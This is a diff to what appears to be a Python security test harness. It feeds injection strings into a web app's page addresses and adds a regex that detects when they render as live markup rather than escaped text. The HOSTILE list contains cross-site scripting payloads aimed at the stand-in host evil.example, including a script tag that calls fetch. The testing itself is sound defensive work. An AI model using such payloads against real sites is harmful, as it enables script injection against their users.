@@ -12,6 +12,7 @@ import contextlib
 import json
 import os
 import random
+import re
 import subprocess
 import sys
 import time
@@ -34,7 +35,8 @@ NAMES = (
     "room_a", "rate", "skew", "predict", "live", "linear", "nodes", "limit", "copies", "placed",
     "tokens", "wire", "gpu", "sample", "layer", "of", "page", "focus", "closer", "model", "width",
     "shared", "run", "guess", "ask", "options", "locked", "next", "machines", "chips", "balance",
-    "own", "embed", "embed_options", "__proto__", "%00", "k_own", "token", "plane",
+    "own", "embed", "embed_options", "__proto__", "%00", "k_own", "token", "plane", "lesson",
+    "student", "answers", "lock",
 )  # fmt: skip
 MARK = "evil.example"
 HOSTILE = (
@@ -43,7 +45,12 @@ HOSTILE = (
     f"<img src=//{MARK}/x onerror=alert(1)>", f"![p](http://{MARK}/p.png)", f"[a](http://{MARK})",
     f"<script src=//{MARK}></script>", f"</style><script>fetch('//{MARK}')</script>",
     "text", "none", "topk", "8-0_5b", "8-0_99999boff", "64-1_10x0.1.2", "2..3", "7,8", "4", "16",
+    "letters", "7_3~2", "shown", "hidden",
 )  # fmt: skip
+LIVE = re.compile(
+    rf"(?<!\\)(<(img|script) src=//{re.escape(MARK)}|\]\(http://{re.escape(MARK)}"
+    rf"|<script>fetch\('//{re.escape(MARK)})"
+)
 CHEAP = {"balance": {"steps": "50", "experts": "4"}}  # pages that train whatever they are asked
 
 
@@ -57,9 +64,11 @@ def addresses(seed: int) -> Iterator[str]:
 
 
 def live(visitor: Visitor) -> list[str]:
-    """Texts of the page in which something of a stranger's would be more than text."""
-    signs = (f"<img src=//{MARK}", f"<script src=//{MARK}", f"](http://{MARK}", f"fetch('//{MARK}")
-    return [text for text in visitor.texts if any(sign in text for sign in signs)]
+    """Texts of the page in which something of a stranger's would be more than text.
+
+    With a backslash before it, Markdown shows it letter for letter.
+    """
+    return [text for text in visitor.texts if LIVE.search(text)]
 
 
 async def opened(host: str, address: str) -> list[str]:
